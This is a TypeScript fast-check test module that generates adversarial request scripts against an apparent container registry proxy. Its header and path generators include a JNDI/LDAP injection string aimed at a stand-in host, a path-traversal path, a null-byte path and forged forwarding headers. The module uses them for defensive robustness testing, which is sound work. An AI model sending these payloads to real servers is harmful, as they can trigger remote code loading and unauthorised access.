// What the adversary may compose: questions of any words, in any order, at any time. A failure prints his script.
import fc from "fast-check";
import { inject } from "vitest";
import { ANONYMOUS_BEARER, CLIENT_BEARER } from "../client-ferry.ts";
import { REPOSITORY, type Ask, type World } from "./adversary.ts";
import { PATHS, type House } from "./house.ts";
import { ACCEPT, ANONYMOUS, DOCKER_IMAGE, DOCKER_LIST, OCI_IMAGE, OCI_INDEX } from "./stage.ts";
import type { Whim } from "./whims.ts";

/** One thing that he does, some times over. */
export interface Question extends Omit<Ask, "path"> {
  readonly do: "ask";
  /** One after the other. */
  readonly paths: readonly string[];
  readonly times: number;
  /** Seconds between two of them. */
  readonly every: number;
  /** What whoever stands before the registry makes of it this time; else what he makes of all odd questions. */
  readonly whim: Whim | undefined;
  /** The number of the question that the pulling client asks at the same moment. */
  readonly beside: number | undefined;
}

export type Step =
  | Question
  | { readonly do: "wait"; readonly seconds: number }
  /** The isolate ends, and another takes its place. */
  | { readonly do: "restart" };

/** Beyond every run that somebody may ask for. */
export const PATIENCE = 12 * 60 * 60 * 1000;

/** Runs by default, and as many times more as the environment says; first of all those that were found once. */
export function settings<T>(runs: number, examples: [T][] = []): fc.Parameters<[T]> {
  return { seed: 20260815, numRuns: Math.ceil(runs * inject("runs")), examples };
}

/** A question by hand. @param references below the repository */
export function asks(references: readonly string[], more: Partial<Question> = {}): Question {
  return {
    do: "ask",
    method: "GET",
    paths: references.map((reference) => `${REPOSITORY}/${reference}`),
    headers: ANONYMOUS,
    times: 1,
    every: 0,
    whim: undefined,
    beside: undefined,
    ...more,
  };
}

export const seconds = fc.constantFrom(0, 1, 9, 10, 11, 11, 30, 61, 120, 299, 301, 301, 600, 1200);

const KNOWN = [
  OCI_INDEX,
  OCI_IMAGE,
  DOCKER_LIST,
  DOCKER_IMAGE,
  "application/vnd.docker.distribution.manifest.v1+prettyjws",
  "application/vnd.docker.distribution.manifest.v1+json",
  "application/vnd.oci.artifact.manifest.v1+json",
  "application/json",
  "*/*",
];
const JNDI = "${jndi:ldap://a.example/x}";

const accept = fc.oneof(
  { weight: 4, arbitrary: fc.constant(ACCEPT) },
  {
    weight: 6,
    arbitrary: fc.shuffledSubarray(KNOWN, { minLength: 1, maxLength: 5 }).map((all) => all.join(", ")),
  },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      ACCEPT.split(", ").reverse().join(","),
      `${ACCEPT}, */*`,
      `${ACCEPT};q=0.5`,
      `${OCI_INDEX};q=0`,
      "application/vnd.example.v1+json",
      `${ACCEPT}, ${JNDI}`,
      JNDI,
      "",
      "text/html",
      "a/b, ".repeat(2000),
      ACCEPT.toUpperCase(),
    ),
  },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme-ascii", maxLength: 20 }).map((text) => text.trim()) },
);

const odd = fc.oneof(
  fc.record({
    Range: fc.constantFrom(
      "bytes=0-",
      "bytes=0-9",
      "bytes=5-",
      "bytes=-4",
      "bytes=999999-",
      "bytes=0-1, 3-4",
      "bytes=9-1",
      "lines=1-2",
      JNDI,
    ),
  }),
  fc.record({
    "If-Range": fc.constantFrom('"x"', "Wed, 21 Oct 2015 07:28:00 GMT"),
    Range: fc.constant("bytes=1-2"),
  }),
  fc.record({ "If-None-Match": fc.constantFrom("*", '"x"', JNDI) }),
  fc.constantFrom<Record<string, string>>(
    { "User-Agent": JNDI },
    { "Cache-Control": "no-cache", Pragma: "no-cache" },
    { "X-Forwarded-For": "127.0.0.1", "X-Forwarded-Host": "registry.example" },
    { "If-Modified-Since": "Wed, 21 Oct 2015 07:28:00 GMT" },
    { "Content-Type": "text/html" },
    { Cookie: "a=b" },
  ),
);

const authorization = fc.oneof(
  { weight: 16, arbitrary: fc.constant(ANONYMOUS_BEARER) },
  { weight: 2, arbitrary: fc.constant(undefined) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(CLIENT_BEARER, "Basic YWxpY2U6d3Jvbmc=", "bearer x, Bearer y", "Digest a=b"),
  },
);

/** Headers of any words; by default docker's. */
export const headers = fc
  .record({
    accept: fc.option(accept, { freq: 9, nil: undefined }),
    authorization,
    odd: fc.option(odd, { freq: 2, nil: {} }),
  })
  .map(({ accept: Accept, authorization: Authorization, odd: others }) => ({
    ...(Accept === undefined ? {} : { Accept }),
    ...(Authorization === undefined ? {} : { Authorization }),
    ...others,
  }));

const method = fc.oneof(
  { weight: 8, arbitrary: fc.constant("GET") },
  { weight: 8, arbitrary: fc.constant("HEAD") },
  { weight: 1, arbitrary: fc.constantFrom("PUT", "DELETE", "POST", "PATCH", "OPTIONS") },
);

const NOWHERE = `sha256:${"0".repeat(64)}`;

/** Paths below `/v2/`. @param repository whose they are, for the most part */
export function paths(house: House, repository = REPOSITORY): fc.Arbitrary<string> {
  const tags = [...house.tags.keys()];
  const within = (...all: string[]): fc.Arbitrary<string> =>
    fc.constantFrom(...all.map((path) => `${repository}/${path}`));
  return fc.oneof(
    { weight: 8, arbitrary: within(...tags.map((tag) => `manifests/${tag}`)) },
    { weight: 8, arbitrary: within(...PATHS.digests(house)) },
    {
      weight: 5,
      arbitrary: within(
        "manifests/none",
        "manifests/latest",
        `manifests/${NOWHERE}`,
        `manifests/${house.converted.get("v1")?.digest ?? ""}`,
        `manifests/${house.tags.get("old") ?? ""}`,
        `manifests/${house.tags.get("walled") ?? ""}`,
        `blobs/${NOWHERE}`,
        `blobs/${house.tags.get("v1") ?? ""}`,
        `manifests/${[...house.blobs.keys()][0] ?? ""}`,
      ),
    },
    {
      weight: 3,
      arbitrary: within(
        "tags/list",
        "tags/list?n=1&last=v1",
        house.referrers,
        `${house.referrers}?artifactType=a`,
        `referrers/${NOWHERE}`,
        "blobs/uploads/",
        "blobs/uploads/1",
        "manifests/v1?ns=docker.io",
        "manifests/v1?x=y",
        "manifests/.v1",
        "manifests/v1%00",
        `manifests/${(house.tags.get("v1") ?? "").replace(":", "%3A")}`,
        `manifests/sha512:${"0".repeat(128)}`,
        "manifests/blake3:abc",
        "../../v2/team/app/manifests/v1",
      ),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        "",
        "_catalog",
        "auth",
        "auth?scope=repository:team/app:pull",
        "team/other/manifests/v1",
        "TEAM/app/manifests/v1",
        "team/app/manifests/manifests/v1",
        "team//app/manifests/v1",
      ),
    },
  );
}

/** All tags, one after the other, and what they are for old clients. */
function sweeps({ converted, tags }: House, repository: string): string[][] {
  const references = ["v1", "v2", "v3"];
  return [
    references.map((tag) => `${repository}/manifests/${tag}`),
    references.map((tag) => `${repository}/manifests/${tags.get(tag) ?? ""}`),
    references.map((tag) => `${repository}/manifests/${converted.get(tag)?.digest ?? ""}`),
  ];
}

/** Most of what is interesting is a no. */
export const whims = (all: readonly Whim[]): fc.Arbitrary<Whim> =>
  fc.oneof(fc.constantFrom(...all.slice(0, 5)), fc.constantFrom(...all));

export function question(
  house: House,
  all: readonly Whim[],
  repository = REPOSITORY,
): fc.Arbitrary<Question> {
  return fc.record({
    do: fc.constant("ask" as const),
    method,
    paths: fc.oneof(
      { weight: 8, arbitrary: paths(house, repository).map((path) => [path]) },
      { weight: 1, arbitrary: fc.constantFrom(...sweeps(house, repository)) },
    ),
    headers,
    leave: fc.option(fc.integer({ min: 0, max: 200 }), { freq: 5, nil: undefined }),
    times: fc.constantFrom(1, 1, 2, 3),
    every: fc.constantFrom(0, 11, 11, 61, 301, 601),
    whim: fc.option(whims(all), { freq: 2, nil: undefined }),
    beside: fc.option(fc.nat(20), { freq: 8, nil: undefined }),
  });
}

export const wait = fc.record({ do: fc.constant("wait" as const), seconds });

export function steps(house: House, all: readonly Whim[]): fc.Arbitrary<Step[]> {
  const step = fc.oneof<fc.WeightedArbitrary<Step>[]>(
    { weight: 10, arbitrary: question(house, all) },
    { weight: 4, arbitrary: wait },
    { weight: 1, arbitrary: fc.constant({ do: "restart" }) },
  );
  return fc.array(step, { minLength: 1, maxLength: 14, size: "max" });
}

/** Plays a script; what is red tells what happened. */
export async function tell(world: World, play: () => Promise<void>): Promise<void> {
  try {
    await play();
  } catch (error) {
    if (!(error instanceof Error)) throw error;
    const start = world.diary.lastIndexOf("everything is warm") + 1;
    error.message += `\n\nWhat happened:\n${world.diary.slice(start).join("\n")}\n`;
    throw error;
  }
}
